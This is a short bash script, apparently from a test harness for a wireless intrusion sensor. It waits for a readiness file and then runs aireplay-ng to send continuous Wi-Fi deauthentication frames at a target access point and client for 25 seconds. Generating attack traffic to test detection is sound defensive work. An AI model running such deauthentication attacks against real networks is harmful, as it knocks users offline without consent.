#!/bin/bash
# A real attack tool, once the sensor listens.
while [ ! -e /share/live/ready ]; do sleep 0.5; done
sleep 10
exec timeout 25 aireplay-ng --deauth 0 -a "$AP" -c "$C1" "$ATTIF"
